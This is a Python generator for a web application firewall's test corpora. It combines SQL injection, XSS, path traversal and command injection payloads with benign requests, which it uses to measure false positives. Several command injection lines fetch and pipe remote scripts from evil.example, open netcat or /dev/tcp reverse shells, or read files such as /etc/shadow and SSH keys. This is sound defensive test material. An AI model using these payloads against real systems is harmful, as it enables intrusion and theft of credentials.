#!/usr/bin/env python3
"""Generate the WAF corpora (tests/waf/attack.tsv, tests/waf/benign.tsv).

Written for vibewarden from the attack classes of issue 14; the output is
committed, so make check does not need to run this.  Each line is
    attack.tsv: category TAB location TAB form TAB bytes-as-sent
    benign.tsv: location TAB bytes-as-sent
where bytes-as-sent is what the client puts on the wire for that location:
a query string (name=value), a Cookie header value, a Referer or
User-Agent header value, a form body, or a JSON body.
"""
import json
import os
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))

SQLI = [
    "' OR '1'='1", "' or 1=1--", "\" or \"\"=\"", "' OR 'x'='x", "1' or '1'='1' -- ",
    "admin'--", "admin' #", "admin'/*", "') or ('a'='a", "1 OR 1=1",
    "1' AND 1=1 --", "' or true--", "x' AND 'a'='a", "' || '1'='1",
    "1 UNION SELECT username, password FROM users", "' UNION SELECT NULL,NULL--",
    "1 UNION ALL SELECT 1,2,3--", "' union select @@version -- ",
    "-1 UNION/**/SELECT table_name FROM information_schema.tables",
    "1) union select user(),2#", "' UNION SELECT password FROM users WHERE '1'='1",
    "1; DROP TABLE users--", "'; DROP TABLE members; --", "1; DELETE FROM accounts",
    "5; INSERT INTO admins VALUES ('x','y')", "1'; UPDATE users SET role='admin' WHERE id=1--",
    "1); SHUTDOWN--", "'; EXEC xp_cmdshell('dir')--", "1; SELECT pg_sleep(10)",
    "1 AND SLEEP(5)", "1' AND BENCHMARK(5000000,MD5(1))--", "'; WAITFOR DELAY '0:0:5'--",
    "1' and extractvalue(1,concat(0x7e,version()))--", "' and updatexml(1,concat(0x7e,user()),1)--",
    "1' order by 3--", "1 AND 1=1", "' or 'a'='a' /*", "1' GROUP BY 2 --",
    "x' or 1=1 limit 1 -- -", "' OR 1=1#", "1 and char(65)=char(65)",
    "' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
    "1' union select load_file('/etc/hosts')--", "' or 2>1 or 'x'='y",
]
XSS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\"><script>alert(document.cookie)</script>", "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<body onload=alert('xss')>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)",
    "<div onclick=\"evil()\">x</div>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "javascript:alert(1)", "JaVaScRiPt:alert(document.domain)", "javascript://%0aalert(1)",
    "vbscript:msgbox(1)", "data:text/html,<h1>x</h1>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2Zz4=", "<a href=\"javascript:void(0)\">x</a>",
    "<object data=\"x.swf\"></object>", "<embed src=x.swf>", "<math><mi xlink:href=x>",
    "<meta http-equiv=\"refresh\" content=\"0;url=x\">", "<base href=//evil.example/>",
    "<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>",
    "'-alert(1)-'", "\";alert(String.fromCharCode(88,83,83))//", "<img src=1 href=1 onerror=\"javascript:alert(1)\">",
    "<scr<script>ipt>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x onpointerover=prompt(1)>", "document.write('<img src=x>')", "eval(atob('YWxlcnQoMSk='))",
    "<link rel=import href=x>", "window.location='//evil.example'", "confirm`1`",
]
TRAV = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../etc/shadow",
    "....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/hosts",
    "%2e%2e%2f%2e%2e%2fboot.ini", "..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5cwindows%5csystem.ini", "/etc/passwd", "/etc/passwd%00.png",
    "../../../../etc/passwd\x00.jpg", "c:\\windows\\win.ini", "C:/Windows/System32/drivers/etc/hosts",
    "/proc/self/environ", "../../../proc/self/cmdline", "file:///etc/passwd",
    "file://c:/boot.ini", "..;/..;/admin", "/var/www/../../etc/group", "..../..../etc/issue",
    "....\\\\....\\\\boot.ini", "..%255c..%255cwin.ini", "/.htaccess", "../.git/config",
    "../../.ssh/id_rsa", "~/.bash_history", "images/../../../../etc/sudoers",
    "%252e%252e%252fetc%252fpasswd", "..%u2215..%u2215etc/passwd", "%2e%2e%5c%2e%2e%5cwin.ini",
    "/static/..%2f..%2f..%2fetc/passwd", "..\\/..\\/etc/passwd", "/download?file=../../etc/passwd",
    "\\\\..\\\\..\\\\windows\\\\system32\\\\config\\\\sam", "../../../../../../etc/crontab",
    "php://filter/resource=../../etc/passwd", "..%00/etc/passwd", "%c0%2e%c0%2e/etc/passwd",
]
CMDI = [
    "; cat /etc/passwd", "| id", "&& whoami", "; ls -la", "|| uname -a", "`id`",
    "$(whoami)", "; wget http://evil.example/x.sh", "| nc 10.0.0.1 4444 -e /bin/sh",
    "& ping -c 3 127.0.0.1", "127.0.0.1; cat /etc/hosts", "x | curl evil.example/s | sh",
    "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "$(cat /etc/passwd)", "; rm -rf /tmp/x",
    "a;id", "test`whoami`", "; sleep 5", "| sleep 10 #", "& dir c:\\",
    "| powershell -enc SQBFAFgA", "; python -c 'import os'", "\nid", "%0aid",
    "& net user admin pass /add", "; echo $PATH", "|cat${IFS}/etc/passwd", "; /bin/bash -c id",
    "$(curl -s evil.example)", "; chmod 777 /tmp/x", "| base64 -d", "&& ls /",
    "; perl -e 'print 1'", "| tasklist", "; env", "1;uname", "x && curl http://evil.example",
    "; nslookup evil.example", "`cat /etc/shadow`", "; cmd.exe /c dir", "| xargs rm",
]

CATS = {"sqli": SQLI, "xss": XSS, "path_traversal": TRAV, "command_injection": CMDI}

def enc_min(s):
    """What a browser sends in a query or form: reserved bytes encoded."""
    return urllib.parse.quote_plus(s, safe="'\"<>()/,;:!*@$`|\\~")

def enc_all(s):
    return urllib.parse.quote(s, safe="")

def mixed(s):
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(s))

def header_safe(s):
    # header values cannot carry CTLs; those are encoded.
    return "".join(c if 0x20 <= ord(c) < 0x7f else "%%%02X" % ord(c) for c in s)

def cookie_safe(s):
    return "".join("%%%02X" % ord(c) if c in ";\t" or not (0x20 <= ord(c) < 0x7f) else c for c in s)

def forms(p):
    """(form, value-as-the-app-would-get-it-once-decoded-from, sent)"""
    return [("plain", p), ("percent", enc_all(p)), ("double", enc_all(enc_all(p))),
            ("mixed", mixed(p))]

def locations(form, v):
    """Render one value into each location, as sent on the wire."""
    out = []
    # query and form body: the value is url-encoded (again) by the client
    # unless the form is already an encoded one, which is sent as is.
    qv = enc_min(v) if form in ("plain", "mixed") else v
    out.append(("query", "q=" + qv))
    out.append(("form", "comment=" + qv))
    out.append(("cookie", "pref=" + cookie_safe(v)))
    out.append(("referer", "https://shop.example/search?q=" + header_safe(v).replace(" ", "+")))
    out.append(("user_agent", "Mozilla/5.0 " + header_safe(v)))
    out.append(("json", json.dumps({"id": 7, "comment": v}, ensure_ascii=True)))
    return out

def attacks():
    rows = []
    for cat, lst in CATS.items():
        for p in lst:
            for form, v in forms(p):
                for loc, sent in locations(form, v):
                    rows.append((cat, loc, form, sent))
    return rows

# ---------------------------------------------------------------- benign
NAMES = ["O'Brien", "D'Angelo", "Mary-Jane O'Neil", "José Álvarez", "Zoë Ng",
         "Søren Kierkegaard", "李小龙", "Иван Петров", "Ahmad Al-Farsi",
         "Ngozi Okonjo-Iweala", "Dr. Jane Smith, PhD", "Jean-Luc Picard"]
PROSE = [
    "Please select the union representative for your region.",
    "We need to drop table tennis from the club schedule this year.",
    "I wrote a script to rename my holiday photos.",
    "Can you select a date and then confirm the booking?",
    "The union of two sets contains every element of both.",
    "Don't forget: the meeting is at 10 o'clock, or 11 if it rains.",
    "Select all that apply, and then press Submit.",
    "Our script supervisor said the scene was shot in one take.",
    "My son's school dropped the drama program; what a shame.",
    "The café's menu changed – they'd added crêpes & waffles.",
    "It's 5 o'clock somewhere; let's wrap up.",
    "He said \"it's fine\" and left.",
    "Price: $5 (or 2 for $8) while stocks last!",
    "Rock 'n' roll and jazz, 1950s to 1970s.",
    "Meet me at the corner of 5th & Main at 7pm.",
    "Q&A: how do I update my shipping address?",
    "Where is the cat? It was on the sofa and now it's gone.",
    "I'd like to delete my account from your newsletter list, please.",
    "Insert coin, then choose a drink.",
    "She works at the Union Bank; select branches open on Saturday.",
    "Use 1/2 cup of sugar and 3/4 cup of flour.",
    "Temperature today: 21°C, tomorrow 23°C.",
    "The ratio is 3:2, not 2:3.",
    "Email me at jane.doe+news@example.com if you're interested.",
    "Our JavaScript course starts Monday; bring a laptop.",
    "The data: 12 samples, 3 outliers.",
    "Who's on first? What's on second?",
    "I'm sleeping 8 hours a night now, feeling great.",
    "Is it 'color' or 'colour' in this document?",
    "Call 555-0100 and ask for extension 42.",
    "这是一个测试评论，包含中文字符。",
    "Это обычный комментарий на русском языке.",
    "これは日本語のテキストです。よろしくお願いします。",
    "مرحبا بكم في موقعنا",
    "Ünïcödé façade naïve coöperate",
    "50% off everything -- today only!",
    "a+b=c is simple algebra",
    "C:\\Users is where Windows keeps profiles, I think",
    "Hours: Mon–Fri 9:00–17:00; Sat 10:00–14:00",
    "Bring snacks; drinks are provided.",
    "Title: The Pragmatic Programmer (2nd ed.)",
    "He scored 2 and she scored 3 = 5 total",
    "Press Ctrl+C, then Ctrl+V.",
    "See you @ the conference #devconf",
    "1 cup = 240 ml",
]
# Benign text chosen to sit close to the rules.
TRICKY = [
    "I'd say 'yes' or 'no', nothing in between.",
    "Rock & roll; cat lovers welcome!",
    "R&D budget; ID 42 approved",
    "Use the filter price >= 10 and price <= 20",
    "1=1 is trivially true in any logic class",
    "Is 2 > 1? Yes, and 3 > 2 as well.",
    "She typed: select * from the menu -- then left",
    "Union members voted 120 to 3; select committees meet Tuesday",
    "The #1 choice; drop by anytime",
    "email: o'connor@example.ie",
    "Mother's day -- 'flowers' or 'chocolate'",
    "Path: Settings > Account > Privacy",
    "Windows 11 vs macOS: which one?",
    "Ping me on Slack; echo chamber discussions are welcome",
    "the onion router",
    "script kiddies and their tools: a history",
    "www.example.com/docs/getting-started.html",
    "Version 2.0 (beta) -- release date TBD",
    "<3 thanks so much!!",
    "a < b and c > d",
    "x = y + 1; y = 2",
    "Dear Sir/Madam, I'm writing about order #12345.",
    "My password hint: first pet's name",
    "~/Documents/report.pdf",
    "C'est la vie, n'est-ce pas?",
    "He said \"don't\" -- and meant it.",
    "Apt. 5; Floor 2; Bldg C",
    "https://example.com/a/b/c?x=1&y=2",
    "I love Java; script writing is my hobby",
    "Call me at 9:30; sleep is overrated",
]
MARKDOWN = [
    "# Release notes\n\n* Fixed login bug\n* Faster search\n\n```python\ndef add(a, b):\n    return a + b\n```\n",
    "Here is the query I use:\n\n```sql\nSELECT name, email FROM customers WHERE active = true ORDER BY name;\n```\n",
    "## Install\n\nRun `make install` after configuring.\n\n```\n./configure --prefix=/usr\nmake\n```",
    "**Bold** and _italic_ text, a [link](https://example.com/docs), and `inline code`.",
    "> Quote from the docs: select the right tool for the job.\n\n- item one\n- item two",
    "```json\n{\"name\": \"widget\", \"price\": 9.99}\n```",
    "1. Open the settings\n2. Select *Privacy*\n3. Toggle the option",
    "Use `git status` to see changes, then `git commit`.",
]
QUERIES = [
    "shoes", "red running shoes size 10", "how to drop a table in postgres",
    "union station chicago", "select comfort mattress", "java script tutorial",
    "best pizza near me", "café olé", "北京 天气", "Москва погода",
    "c++ vs rust", "what is 2+2", "o'reilly books", "50% off", "tom & jerry",
    "where is /usr/local", "etc etc", "cat videos", "id card renewal", "sleep apnea",
    "rm 101 schedule", "ping pong tables", "echo dot review", "set theory union intersection",
    "how does a script tag work", "path of exile", "1/2 inch pipe", "a-b testing",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.61",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.4.0", "python-requests/2.31.0", "Wget/1.21.3", "okhttp/4.12.0",
    "PostmanRuntime/7.35.0", "Go-http-client/1.1",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/119.0.6045.169 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
]
COOKIES = [
    "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000",
    "_fbp=fb.1.1700000000000.123456789; _gcl_au=1.1.111.1700000000",
    "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl; theme=dark",
    "cookieconsent_status=dismiss; lang=en-US",
    "ajs_anonymous_id=%22c0ffee12-3456-7890-abcd-ef0123456789%22; ajs_user_id=null",
    "csrftoken=Zm9vYmFyYmF6cXV4; sessionid=abcdef0123456789",
    "cart=%7B%22items%22%3A%5B1%2C2%2C3%5D%7D; currency=EUR",
    "_hjSessionUser_123=eyJpZCI6IjEyMyIsImNyZWF0ZWQiOjE3MDB9; _hjAbsoluteSessionInProgress=0",
    "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Nov+27+2023+10%3A00%3A00+GMT%2B0100&version=202310.1.0",
    "last_search=red+shoes; recently_viewed=12%2C34%2C56",
    "intercom-id-abc=1234-5678; intercom-session-abc=",
    "PHPSESSID=5v1j3f9a7c2e8b4d6f0a1c3e5b; remember_me=1",
]
REFERERS = [
    "https://www.google.com/", "https://www.google.com/search?q=o%27brien+and+sons",
    "https://shop.example/cart?step=2&coupon=SAVE10", "https://news.example/2023/11/27/union-vote-results",
    "https://t.co/AbCdEf123", "https://www.bing.com/search?q=select+comfort&form=QBLH",
    "https://example.com/docs/setup#install", "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example%2F&h=AT0",
    "https://mail.example/?next=%2Finbox%3Ffolder%3Dwork", "https://www.example.org/blog/how-to-drop-tables-safely",
    "https://duckduckgo.com/?q=script+writing+tips&ia=web", "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC",
]

def benign():
    rows = []
    for n in NAMES:
        rows.append(("form", urllib.parse.urlencode({"name": n, "email": "x@example.com", "agree": "on"})))
        rows.append(("json", json.dumps({"name": n, "city": "Dublin"}, ensure_ascii=False)))
        rows.append(("query", urllib.parse.urlencode({"author": n})))
    for p in PROSE:
        rows.append(("form", urllib.parse.urlencode({"subject": "Hello", "message": p})))
        rows.append(("json", json.dumps({"comment": {"body": p, "rating": 4}}, ensure_ascii=False)))
        rows.append(("query", urllib.parse.urlencode({"q": p})))
        rows.append(("cookie", "last_msg=" + urllib.parse.quote(p) + "; theme=light"))
    for t in TRICKY:
        rows.append(("form", urllib.parse.urlencode({"message": t})))
        rows.append(("json", json.dumps({"text": t})))
        rows.append(("query", urllib.parse.urlencode({"q": t})))
    for m in MARKDOWN:
        rows.append(("json", json.dumps({"title": "Notes", "body_md": m, "tags": ["docs", "howto"]})))
        rows.append(("form", urllib.parse.urlencode({"post[body]": m, "post[draft]": "false"})))
    for q in QUERIES:
        rows.append(("query", urllib.parse.urlencode({"q": q, "page": 2, "sort": "relevance"})))
        rows.append(("query", urllib.parse.urlencode({"search": q, "utm_source": "newsletter", "utm_campaign": "nov_2023"})))
        rows.append(("referer", "https://www.google.com/search?q=" + urllib.parse.quote_plus(q)))
        rows.append(("json", json.dumps({"query": q, "filters": {"in_stock": True}, "limit": 20})))
    for u in UAS:
        rows.append(("user_agent", u))
    for c in COOKIES:
        rows.append(("cookie", c))
    for r in REFERERS:
        rows.append(("referer", r))
    # ordinary API traffic
    for i in range(20):
        rows.append(("json", json.dumps({"order_id": 1000 + i, "items": [{"sku": "AB-%d" % i, "qty": i % 3 + 1}],
                                         "note": "Leave at the door, thanks!", "coupon": None})))
        rows.append(("query", "page=%d&per_page=25&fields=id,name,created_at&since=2023-11-%02dT10:00:00Z" % (i, i + 1)))
        rows.append(("form", "grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA%d&redirect_uri=https%%3A%%2F%%2Fclient.example%%2Fcb" % i))
    return rows

def main():
    a = attacks()
    b = benign()
    with open(os.path.join(HERE, "attack.tsv"), "w", encoding="utf-8") as f:
        for r in a:
            assert "\t" not in r[3] and "\n" not in r[3] and "\r" not in r[3], r
            f.write("\t".join(r) + "\n")
    with open(os.path.join(HERE, "benign.tsv"), "w", encoding="utf-8") as f:
        for r in b:
            assert "\t" not in r[1] and "\n" not in r[1], r
            f.write("\t".join(r) + "\n")
    print("attack payloads: %d base, %d distinct sent, %d cases; benign requests: %d" % (
        sum(len(v) for v in CATS.values()), len(set(r[3] for r in a)), len(a), len(b)))

if __name__ == "__main__":
    main()
